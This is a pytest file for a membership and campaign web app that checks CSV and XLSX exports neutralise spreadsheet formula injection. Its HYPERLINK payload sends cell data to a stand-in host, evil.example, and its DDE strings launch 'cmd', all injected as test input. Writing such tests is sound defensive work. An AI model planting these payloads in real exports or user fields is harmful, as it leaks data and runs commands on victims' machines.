"""Formula injection: no cell of any CSV or XLSX export starts a formula, whatever
people or editors typed (cells starting with = + - @ tab or carriage return)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from .conftest import HOST

membership_services = pytest.importorskip("membership.services")
movement_models = pytest.importorskip("movement.models")
from tests.movement.conftest import add_pledges, make_campaign  # noqa: E402

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(content):
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_safe(content, where):
    for cell in csv_cells(content):
        assert not cell.startswith(FORMULA_START), f"{cell!r} in {where}"


def assert_xlsx_safe(content, where):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula {cell.value!r} in {where}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    # Only a text cell (never evaluated) may keep a leading sign,
                    # as phone numbers "+383 …" do.
                    assert cell.data_type == "s", f"{cell.value!r} in {where}"
                    assert cell.value.startswith("+") and cell.column_letter, where


@pytest.fixture
def hostile_people(org):
    for number, text in enumerate(HOSTILE):
        ids = membership_services.store_submission(
            site=org.site,
            page=org.home_sq,
            language="sq",
            email=f"f{number}@example.org",
            person={"given_name": text, "family_name": text, "country": text},
            signups=[
                {
                    "kind": "volunteer",
                    "fields": {"motivation": text, "skills": text, "languages_spoken": text},
                    "consents": [("signup", "Po.")],
                }
            ],
            notify=False,
        )
        membership_services.confirm(ids)


def test_membership_exports_neutralise_formulas(client, org, hostile_people, superuser):
    client.force_login(superuser)
    response = client.get("/admin/people/export/csv/", HTTP_HOST=HOST)
    assert response.status_code == 200
    cells = csv_cells(response.content)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert_csv_safe(response.content, "the people CSV")

    response = client.get("/admin/people/export/xlsx/", HTTP_HOST=HOST)
    assert response.status_code == 200
    assert_xlsx_safe(response.content, "the people XLSX")


def test_open_data_neutralises_formulas(client, org):
    page, _ = make_campaign(org)
    for demand, text in zip(page.demands.all(), HOSTILE, strict=False):
        demand.title = text
        demand.explanation = text
        demand.indicator = text
        demand.unit = text[:20]
        demand.save()
    add_pledges(page, 2)
    movement_models.Pledge.objects.filter(campaign=page).update(name=HOSTILE[0], party=HOSTILE[3])
    from home.cache import invalidate_sites

    invalidate_sites()
    base = page.url
    for name in ("demands", "progress", "pledges"):
        response = client.get(f"{base}data/{name}.csv", HTTP_HOST=HOST)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/csv")
        assert_csv_safe(response.content, f"open data {name}.csv")
        if name == "demands":  # the hostile texts are there, neutralised
            assert "'=HYPERLINK" in response.content.decode("utf-8-sig")
